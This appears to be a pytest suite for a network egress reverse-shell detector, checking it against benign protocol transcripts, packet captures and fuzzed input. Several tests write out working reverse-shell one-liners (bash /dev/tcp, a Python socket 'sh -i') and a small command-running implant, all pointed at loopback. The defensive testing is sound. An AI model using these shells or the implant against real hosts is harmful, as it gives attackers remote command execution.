"""Reverse-shell detector: real bash/sh reverse shells and a minimal implant on loopback,
transcripts of ordinary server-speaks-first protocols as negatives, real captures, fuzz."""
from __future__ import annotations

import shutil
import socket
import subprocess
import sys
import time

import pytest
from hypothesis import given, settings, strategies as st

from egress.inspect.base import Status, StreamView
from egress.inspect.shell import ReverseShellDetector

try:
    from protocols_pcap import SHARED_PCAPS, read_flows
except ImportError:
    from tests.inspect.protocols_pcap import SHARED_PCAPS, read_flows

DET = ReverseShellDetector()
V4 = b"\x0a\x00\x00\x01"


def view(out: bytes, inp: bytes, closed=False, initiator_known=True) -> StreamView:
    return StreamView(6, V4, 40000, b"\x0a\x00\x00\x02", 4444, out, inp, closed_to_server=closed,
                      closed_to_client=closed, initiator_known=initiator_known)


def operate(cmd: list[str], commands: list[bytes], settle: float = 0.4) -> tuple[bytes, bytes]:
    """Listen on loopback, let `cmd` connect back (the reverse shell), type `commands`.

    Returns (bytes the shell sent, bytes we sent). The shell process is ended by pid.
    """
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    srv.settimeout(10)
    port = srv.getsockname()[1]
    proc = subprocess.Popen([c.replace("PORT", str(port)) for c in cmd], stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            env={"PATH": "/usr/bin:/bin", "HOME": "/tmp", "TERM": "dumb"})
    out, sent = bytearray(), bytearray()
    try:
        conn, _ = srv.accept()
        conn.settimeout(settle)

        def drain():
            deadline = time.monotonic() + 3
            while time.monotonic() < deadline:
                try:
                    chunk = conn.recv(4096)
                except socket.timeout:
                    return
                if not chunk:
                    return
                out.extend(chunk)

        drain()
        for c in commands:
            conn.sendall(c)
            sent.extend(c)
            drain()
        conn.close()
    finally:
        srv.close()
        if proc.poll() is None:
            proc.terminate()
        proc.wait(5)
    return bytes(out), bytes(sent)


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_real_bash_reverse_shell():
    out, inp = operate(["bash", "-c", "exec bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"], [b"id\n", b"exit\n"])
    r = DET.inspect(view(out, inp))
    assert r.status is Status.MATCH
    assert [(d.category, d.signature) for d in r.detections] == [("reverse_shell", "shell.reverse")]


@pytest.mark.skipif(shutil.which("sh") is None, reason="needs sh")
def test_real_sh_reverse_shell_through_a_python_connect():
    code = ("import socket,subprocess,sys;s=socket.create_connection(('127.0.0.1',PORT));"
            "subprocess.call(['sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())")
    out, inp = operate([sys.executable, "-c", code], [b"uname -a\n", b"pwd\n", b"exit\n"])
    r = DET.inspect(view(out, inp))
    assert r.status is Status.MATCH and r.detections[0].category == "reverse_shell"


def test_minimal_implant_without_prompt_is_found_from_commands_and_output():
    code = ("import socket,subprocess;s=socket.create_connection(('127.0.0.1',PORT));f=s.makefile('rb')\n"
            "for line in f:\n"
            "    s.sendall(subprocess.run(line.decode(),shell=True,capture_output=True).stdout)\n")
    out, inp = operate([sys.executable, "-c", code], [b"uname -a\n", b"ls -la /\n"])
    assert out, "the implant produced no output"
    r = DET.inspect(view(out, inp))
    assert r.status is Status.MATCH
    assert r.detections[0].evidence["rule"] == "acceptor_commands"
    assert DET.inspect(view(out, inp, initiator_known=False)).detections[0].confidence < 1


TRANSCRIPTS = [
    (b"EHLO sandbox\r\nMAIL FROM:<a@b>\r\nQUIT\r\n", b"220 mx ESMTP ready\r\n250-mx\r\n250 OK\r\n221 bye\r\n"),
    (b"USER anonymous\r\nPASS x\r\nPWD\r\nLIST\r\n", b"220 FTP ready\r\n331 ok\r\n230 ok\r\n257 \"/\"\r\n"),
    (b"+OK\r\n$5\r\nhello\r\n", b"*1\r\n$4\r\nPING\r\n"),
    (b"GET /install.sh HTTP/1.1\r\nHost: x\r\n\r\n",
     b"HTTP/1.1 200 OK\r\n\r\n#!/bin/sh\nid\nuname -a\nls\nexit\n"),
    (b"$ ", b"HTTP/1.1 200 OK\r\n\r\nid\n"),
    (b"SSH-2.0-OpenSSH_9.2\r\n", b"SSH-2.0-OpenSSH_9.2\r\n"),
    (b"hello\n", b"ls\n"),                              # one command, no prompt, no output: not enough
]


@pytest.mark.parametrize("out,inp", TRANSCRIPTS)
def test_ordinary_protocols_are_not_reverse_shells(out, inp):
    assert not DET.inspect(view(out, inp, closed=True)).detections


def test_no_reverse_shell_in_real_captures():
    if not SHARED_PCAPS.is_dir():
        pytest.skip("../shared/pcaps not present")
    for path in sorted(SHARED_PCAPS.glob("*.pcap*")):
        for f in read_flows(path):
            if f.proto == 6:
                assert not DET.inspect(f.view()).detections, (path.name, f.client, f.server)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=500), st.binary(max_size=200), st.booleans())
def test_fuzz_never_raises(out, inp, closed):
    assert DET.inspect(view(out, inp, closed)).status in set(Status)
    assert DET.inspect(view(b"root@x:~# " + out, b"id\n" + inp, closed)).status in set(Status)


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_bash_reverse_shell_through_the_engine():
    try:
        from protocols_pcap import engine_replay
    except ImportError:
        from tests.inspect.protocols_pcap import engine_replay
    out, inp = operate(["bash", "-c", "exec bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"], [b"id\n", b"exit\n"])
    # the shell speaks first (job-control messages, prompt), then the operator's commands
    sizes = [(0.0, 0, len(out) // 2), (0.5, 1, len(inp)), (0.6, 0, len(out) - len(out) // 2)]
    [event] = engine_replay(out, inp, sizes)
    assert "reverse_shell" in {d["category"] for d in event["detections"]}
